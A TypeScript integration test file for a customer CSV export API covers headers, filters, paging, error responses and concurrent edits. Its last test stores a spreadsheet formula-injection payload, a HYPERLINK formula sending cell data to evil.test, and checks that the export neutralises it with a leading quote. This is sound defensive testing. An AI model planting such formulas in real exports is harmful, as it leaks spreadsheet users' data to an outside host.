import { findUserForLogin } from "@cr/db/repositories";
import { customerCsvColumns, type CustomerExportSortKey } from "@cr/domain";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

import { exportCustomers } from "~/server/services/export-customers";

import { createLegacyApiClient } from "../support/legacy-api-client";
import { createLegacyClient, sessionCookie } from "../support/legacy-client";
import { sessionTokenOf, startTestServer, type TestServer } from "../support/test-server";

let server: TestServer;
let api: ReturnType<typeof createLegacyApiClient>;
/** The UI's own session cookie. */
let entity1: Record<string, string>;

beforeAll(async () => {
  server = await startTestServer({ customersPerOrganization: 30 });
  api = createLegacyApiClient(server.deps);
  entity1 = sessionCookie(await sessionTokenOf(server.deps, "admin@entity1.test"));
});

afterAll(async () => {
  await server?.close();
});

async function exportCsv(query = "", headers = entity1) {
  const response = await api.get(`/api/v2.1/customers.csv${query ? `?${query}` : ""}`, headers);
  const bytes = new Uint8Array(await response.arrayBuffer());
  return { response, bytes, text: new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes) };
}

const rowsOf = (text: string) => parse(text, { columns: true }) as Record<string, string>[];

describe("GET /api/{version}/customers.csv", () => {
  it("writes the page's example customer 256 as the form contract takes each value, under a header of parameter names", async () => {
    const { response, text } = await exportCsv("reference=NC-3");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toBe('attachment; filename="customers.csv"');
    expect(text).toBe(
      "id,reference,name,reference2,barcode,isActive,categoryId,isSubCustomer,parentCustomerId,billWithParent," +
        "customerSegmentationId,userId,isSameAddress,billingCountry,billingCity,billingPostalCode,billingAddress," +
        "billingLat,billingLng,country,city,postalCode,address,latitude,longitude,email,phone,mobile,fax,comment," +
        "website,creditLimit,dueDateConfigNumber,dueDateConfigType,taxNumber,companyRegistrationNumber,currency," +
        "paymentTypes,regionId,customerRisk,customerRiskColor,onHold,onHoldReason\n" +
        `256,NC-3,Marie's Jewelry,,,true,2,false,,false,1,2,true,FR,Nice,,,,,FR,Nice,,,,,,,,,,,5000,7,1,,,USD,"[{""id"":7},{""id"":8}]",2,,,false,\n`,
    );
    expect(text.split("\n")[0]!.split(",")).toEqual(customerCsvColumns);
  });

  it("starts with a UTF-8 byte order mark when asked, and only then", async () => {
    const withBom = await exportCsv("reference=NC-3&bom=true");
    expect([...withBom.bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(withBom.text.slice(1)).toBe((await exportCsv("reference=NC-3")).text);
    expect((await exportCsv("reference=NC-3")).bytes[0]).toBe("i".charCodeAt(0));
  });

  it("exports every matching customer, with the legacy list's filters and the UI list's", async () => {
    const all = rowsOf((await exportCsv()).text);
    expect(all).toHaveLength(31);
    expect(all.map((row) => Number(row.id))).toEqual(all.map((row) => Number(row.id)).sort((a, b) => a - b));

    const onHold = rowsOf((await exportCsv("onHold=true")).text);
    expect(onHold.length).toBeGreaterThan(0);
    expect(onHold.every((row) => row.onHold === "true")).toBe(true);
    expect(rowsOf((await exportCsv("onHold=false")).text).length).toBe(31 - onHold.length);

    const searched = rowsOf((await exportCsv("search=marie")).text);
    expect(searched.map((row) => row.reference)).toContain("NC-3");
    expect(searched.every((row) => /marie/i.test(row.name!) || /marie/i.test(row.reference!))).toBe(true);

    const byNameDesc = rowsOf((await exportCsv("sort=name&order=desc")).text).map((row) => row.name!);
    expect(byNameDesc).toEqual([...byNameDesc].sort((a, b) => (a < b ? 1 : a > b ? -1 : 0)));
    expect(rowsOf((await exportCsv("reference=NC-*&isActive=true")).text).every((row) => row.reference!.startsWith("NC-"))).toBe(true);
  });

  it("answers an empty selection with the header row alone", async () => {
    const { text } = await exportCsv("reference=nobody");
    expect(text).toBe(`${customerCsvColumns.join(",")}\n`);
  });

  it("refuses a query the list refuses, with the contract's JSON, and a request without credentials", async () => {
    const badSort = await api.get("/api/v2.1/customers.csv?sort=balance", entity1);
    expect(badSort.status).toBe(400);
    expect(await badSort.json()).toEqual({
      error: "invalid_param",
      error_description: "sort must be one of id, reference, name, dateCreated, lastUpdated, creditLimit.",
    });
    const badDate = await api.get("/api/v2.1/customers.csv?dateCreated_gt=yesterday", entity1);
    const listBadDate = await api.get("/api/v2.1/customers?dateCreated_gt=yesterday", entity1);
    expect([badDate.status, await badDate.json()]).toEqual([listBadDate.status, await listBadDate.json()]);
    // a query declares no charset: bytes that are not UTF-8 are refused, not searched for as U+FFFD
    const latin1Search = await api.get("/api/v2.1/customers.csv?search=Caf%E9", entity1);
    expect([latin1Search.status, await latin1Search.json()]).toEqual([
      400,
      { error: "invalid_param_type", error_description: "The type of parameter search you provided is not valid for this request." },
    ]);

    const anonymous = await api.get("/api/v2.1/customers.csv");
    expect(anonymous.status).toBe(401);
    expect(await anonymous.json()).toMatchObject({ error: "unauthorized" });
  });

  it("reads page after page, in every sort, as one page would", async () => {
    const actor = (await findUserForLogin(server.deps.db, "admin@entity1.test"))!;
    const read = async (sort: CustomerExportSortKey, order: "asc" | "desc", pageSize: number) => {
      const ids: string[] = [];
      for await (const row of exportCustomers({ deps: server.deps, actor, query: { sort, order, filters: { dateCreated: {}, lastUpdated: {} } }, pageSize })) {
        ids.push(row[0]!);
      }
      return ids;
    };
    for (const sort of ["id", "reference", "name", "dateCreated", "lastUpdated", "creditLimit"] as const) {
      for (const order of ["asc", "desc"] as const) {
        const whole = await read(sort, order, 1000);
        expect(whole, `${sort} ${order}`).toHaveLength(31);
        expect(await read(sort, order, 4), `${sort} ${order}`).toEqual(whole);
      }
    }
  });

  it("exports each matching customer once, when customers change during the export", async () => {
    const actor = (await findUserForLogin(server.deps.db, "admin@entity1.test"))!;
    const ids: string[] = [];
    const query = { sort: "lastUpdated", order: "asc", filters: { dateCreated: {}, lastUpdated: {} } } as const;
    for await (const row of exportCustomers({ deps: server.deps, actor, query, pageSize: 4 })) {
      ids.push(row[0]!);
      if (ids.length === 1) {
        // the first customer exported moves to the end of the order
        const written = await createLegacyClient(server.deps).call({
          customer: { id: row[0]! },
          method: "POST",
          headers: entity1,
          body: new URLSearchParams({ comment: "changed during an export" }),
        });
        expect(written.status).toBe(200);
      }
    }
    expect(ids).toHaveLength(31);
    expect(new Set(ids).size).toBe(31);
  });

  // Last: it renames customer 270, which the name sort above compares under the database's collation.
  it("writes a text a spreadsheet would run as a formula with a leading quote, and negative numbers as they are", async () => {
    const written = await createLegacyClient(server.deps).call({
      customer: { id: "270" },
      method: "POST",
      headers: entity1,
      body: new URLSearchParams({
        name: '=HYPERLINK("http://evil.test/?leak="&A1,"Open")',
        comment: "@SUM(1)",
        phone: "+1",
        mobile: "-2+3",
        email: "-2+3@example.test",
        billingLat: "-33.5",
        billingLng: "-0.0000001",
      }),
    });
    expect(written.status).toBe(200);

    const row = rowsOf((await exportCsv()).text).find((exported) => exported.id === "270")!;
    expect([row.name, row.comment, row.phone, row.mobile, row.email]).toEqual([
      `'=HYPERLINK("http://evil.test/?leak="&A1,"Open")`,
      "'@SUM(1)",
      "'+1",
      "'-2+3",
      "'-2+3@example.test",
    ]);
    expect([row.billingLat, row.billingLng]).toEqual(["-33.5", "-0.0000001"]);
    const formulaStart = /^[=+\-@\t\r]/;
    expect(Object.entries(row).filter(([, cell]) => formulaStart.test(cell) && !/^-?\d+(?:\.\d+)?$/.test(cell))).toEqual([]);
  });
});
